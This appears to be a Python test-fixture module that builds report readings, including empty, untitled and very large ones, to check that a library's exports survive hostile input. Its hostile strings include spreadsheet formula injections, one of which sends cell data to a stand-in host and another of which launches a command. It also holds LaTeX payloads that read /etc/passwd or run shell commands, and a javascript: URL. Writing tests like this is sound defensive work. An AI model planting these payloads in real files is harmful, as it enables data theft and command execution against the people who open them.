"""Readings that exports must bear: hostile words in every place, nothing at all, no title, ten thousand claims."""

from reportedly.model.claims import Claim, Finding
from reportedly.model.document import Document, sha256_of
from reportedly.model.figures import Date, Quantity
from reportedly.model.reading import Reading
from reportedly.model.span import Span
from reportedly.model.voices import Attribution, Link, Voice
from tests.export.hostile import NASTY

FORMULAS = (
    '=HYPERLINK("https://harm.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,9)",
    "\tleading tab",
    "\rcarriage",
    "\nline",
    "＝1＋1",
    "'=already quoted",
    "''=twice",
    "'quoted words'",
)
LATEX = ("\\input{/etc/passwd}", "\\write18{id}", "100% & #1 _a_ ^b^ ~c $x$", "}}, note={x", "@comment{", "a\\")
HARM = (*NASTY, *FORMULAS, *LATEX)
"""Words that mean harm to a spreadsheet, a page, a terminal, TeX, or a reader of lines."""


def nasty() -> Reading:
    """A report made of HARM, a paragraph each, with a record of every kind on each, named by them too."""
    text = "\n\n".join(HARM)
    spans, at = [], 0
    for words in HARM:
        spans.append(Span(at, at + len(words)))
        at += len(words) + 2
    document = Document(
        text=text,
        id=HARM[0],
        title=HARM[1] + HARM[2],
        publisher=HARM[3],
        published="2031-05-06T07:08:09+00:00",
        authors=list(HARM),
        url="javascript:alert(1)",
        sha256=sha256_of(text),
    )
    numbered = list(enumerate(zip(spans, HARM, strict=True)))
    return Reading(
        id=HARM[0],
        document=document,
        voices=[Voice(id=f"v{n}", name=words, kind="vague", mentions=[span]) for n, (span, words) in numbered],
        attributions=[
            Attribution(
                id=f"a{n}",
                source=[span],
                cue=[Span(span.start, span.start + 1)],
                content=[spans[-1 - n], span],
                quote="mixed",
                stance="doubt",
                confidence=0.5,
                voice=f"v{n}",
                chain=[Link(voice=f"v{n}", name=words, kind="vague")],
                flags=[words],
            )
            for n, (span, words) in numbered
        ],
        claims=[Claim(id=f"c{n}", spans=[span], attribution=None, flags=[words]) for n, (span, words) in numbered],
        quantities=[
            Quantity(id=f"q{n}", span=span, low=-1.0, high=float("inf"), kind="count", counted=words, population=words)
            for n, (span, words) in numbered
        ],
        dates=[Date(id=f"t{n}", span=span, type="DATE", value=words) for n, (span, words) in numbered],
        findings=[
            Finding(id=f"f{n}", kind="ratio", verdict="strained", spans=[span], working=words, confidence=0.1)
            for n, (span, words) in numbered
        ],
    )


def empty() -> Reading:
    """A reading of nothing: no text, no title, no record."""
    return Reading(id="", document=Document(text=""))


def untitled() -> Reading:
    """A report of which only the words are known."""
    text = "The ferry was late. The harbour master said so."
    return Reading(id="a.txt", document=Document(text=text, id="a.txt", sha256=sha256_of(text)))


def large(claims: int = 10_000) -> Reading:
    """A report with so many claims, each attributed."""
    sentence = "Ada Quint said the ferry was late. "
    text = sentence * claims
    starts = range(0, len(text), len(sentence))
    return Reading(
        id="large",
        document=Document(text=text, id="large", sha256=sha256_of(text)),
        attributions=[
            Attribution(
                id=f"a{n}",
                source=[Span(at, at + 9)],
                cue=[Span(at + 10, at + 14)],
                content=[Span(at + 15, at + 33)],
                quote="indirect",
                stance="neutral",
                confidence=0.9,
            )
            for n, at in enumerate(starts)
        ],
        claims=[Claim(id=f"c{n}", spans=[Span(at + 15, at + 33)], attribution=f"a{n}") for n, at in enumerate(starts)],
    )
